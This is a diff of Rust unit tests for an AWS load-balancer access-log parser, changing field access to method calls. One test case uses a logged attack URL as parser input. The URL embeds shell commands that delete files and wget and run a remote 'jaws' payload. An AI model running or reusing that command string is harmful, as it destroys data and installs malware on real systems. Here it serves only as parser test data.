@@ -153,37 +153,37 @@ fn alb_field_values() {
     assert_eq!((r.backend_ip, r.backend_port), (Some(&b"10.0.0.1"[..]), Some(80)));
     assert_eq!((r.request_processing_us, r.backend_processing_us, r.response_processing_us), (Some(0), Some(1000), Some(0)));
     assert_eq!((r.received_bytes, r.sent_bytes), (34, 366));
-    assert_eq!(r.alb.target_group_arn, b"arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067");
-    assert_eq!(r.alb.trace_id, b"Root=1-58337262-36d228ad5d99923122bbe354");
-    assert_eq!(r.alb.matched_rule_priority, b"0");
-    assert_eq!(r.alb.request_creation_time.unwrap().to_rfc3339(), "2018-07-02T22:22:48.364000Z");
-    assert_eq!(r.alb.actions_executed, b"forward");
-    assert_eq!((r.alb.target_port_list, r.alb.target_status_code_list), (&b"10.0.0.1:80"[..], &b"200"[..]));
-    assert_eq!(r.alb.conn_trace_id, b"TID_dc57cebed65b444ebc8177bb698fe166");
-    assert_eq!(r.alb.extra, b"");
+    assert_eq!(r.alb().target_group_arn, b"arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067");
+    assert_eq!(r.alb().trace_id, b"Root=1-58337262-36d228ad5d99923122bbe354");
+    assert_eq!(r.alb().matched_rule_priority, b"0");
+    assert_eq!(r.alb().request_creation_time.unwrap().to_rfc3339(), "2018-07-02T22:22:48.364000Z");
+    assert_eq!(r.alb().actions_executed, b"forward");
+    assert_eq!((r.alb().target_port_list, r.alb().target_status_code_list), (&b"10.0.0.1:80"[..], &b"200"[..]));
+    assert_eq!(r.alb().conn_trace_id, b"TID_dc57cebed65b444ebc8177bb698fe166");
+    assert_eq!(r.alb().extra, b"");
 
     // 2: https, authenticate,forward, cert arn
     let r = lb(ls[1], &f);
     assert_eq!(r.ssl_cipher, b"ECDHE-RSA-AES128-GCM-SHA256");
-    assert_eq!(r.alb.domain_name, b"www.example.com");
-    assert_eq!(r.alb.actions_executed, b"authenticate,forward");
+    assert_eq!(r.alb().domain_name, b"www.example.com");
+    assert_eq!(r.alb().actions_executed, b"authenticate,forward");
 
     // 7: Lambda failure: LB-generated 502 with error reason
     let r = lb(ls[6], &f);
     assert_eq!((r.elb_status, r.backend_ip), (Some(502), None));
     assert!(r.lb_generated());
-    assert_eq!(r.alb.error_reason, b"LambdaInvalidResponse");
+    assert_eq!(r.alb().error_reason, b"LambdaInvalidResponse");
 
     // 8: quoted target lists
     let r = lb(ls[7], &f);
-    assert_eq!((r.alb.target_port_list, r.alb.target_status_code_list), (&b"10.229.5.47:80"[..], &b"200"[..]));
-    assert_eq!(r.alb.actions_executed, b"waf,forward");
+    assert_eq!((r.alb().target_port_list, r.alb().target_status_code_list), (&b"10.229.5.47:80"[..], &b"200"[..]));
+    assert_eq!(r.alb().actions_executed, b"waf,forward");
 
     // 9: malformed request line
     let r = lb(ls[8], &f);
     assert_eq!(r.request.raw, b"- http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80- -");
     assert_eq!(r.request.method, b"-");
-    assert_eq!(r.alb.target_group_arn, b"-");
+    assert_eq!(r.alb().target_group_arn, b"-");
 
     // 11: IPv6 client and target without brackets
     let r = lb(ls[10], &f);
@@ -195,13 +195,13 @@ fn alb_field_values() {
     assert_eq!(r.backend_ip, Some(&b"10.0.1.107"[..]));
     assert_eq!((r.request_processing_us, r.elb_status), (None, Some(504)));
     assert!(r.lb_generated());
-    assert_eq!(r.alb.conn_trace_id, b"");
+    assert_eq!(r.alb().conn_trace_id, b"");
 
     // 17: raw space inside the URL; classification fields
     let r = lb(ls[16], &f);
     assert_eq!(r.request.target, b"http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws");
     assert_eq!(r.request.protocol, b"HTTP/1.1");
-    assert_eq!((r.alb.classification, r.alb.classification_reason), (&b"Acceptable"[..], &b"SpaceInUri"[..]));
+    assert_eq!((r.alb().classification, r.alb().classification_reason), (&b"Acceptable"[..], &b"SpaceInUri"[..]));
 
     // 18: request '- URL ' with a trailing space
     let r = lb(ls[17], &f);
@@ -214,19 +214,19 @@ fn alb_field_values() {
 
     // 25: 2026 line with unknown trailing fields after the transform fields
     let r = lb(ls[24], &f);
-    assert_eq!(r.alb.conn_trace_id, b"TID_558e26a7adede44b9fdb98006014afcf");
+    assert_eq!(r.alb().conn_trace_id, b"TID_558e26a7adede44b9fdb98006014afcf");
     assert_eq!(
-        (r.alb.transformed_host, r.alb.transformed_uri, r.alb.request_transform_status),
+        (r.alb().transformed_host, r.alb().transformed_uri, r.alb().request_transform_status),
         (&b"-"[..], &b"-"[..], &b"-"[..])
     );
-    assert_eq!(r.alb.extra, br#"100.51.96.60 "-" "-""#);
-    assert_eq!(r.alb.actions_executed, b"fixed-response");
+    assert_eq!(r.alb().extra, br#"100.51.96.60 "-" "-""#);
+    assert_eq!(r.alb().actions_executed, b"fixed-response");
 
     // 28: unknown trailing fields (one quoted with a space) instead of conn_trace_id
     let r = lb(ls[27], &f);
-    assert_eq!(r.alb.trace_id, b"Self=1-00000000-111111111111111111111111;Root=1-00000000-222222222222222222222222");
-    assert_eq!(r.alb.conn_trace_id, b"");
-    assert_eq!(r.alb.extra, br#""FOO BAR" BAZ"#);
+    assert_eq!(r.alb().trace_id, b"Self=1-00000000-111111111111111111111111;Root=1-00000000-222222222222222222222222");
+    assert_eq!(r.alb().conn_trace_id, b"");
+    assert_eq!(r.alb().extra, br#""FOO BAR" BAZ"#);
 
     // 31: LB-generated 503 (no healthy target)
     let r = lb(ls[30], &f);
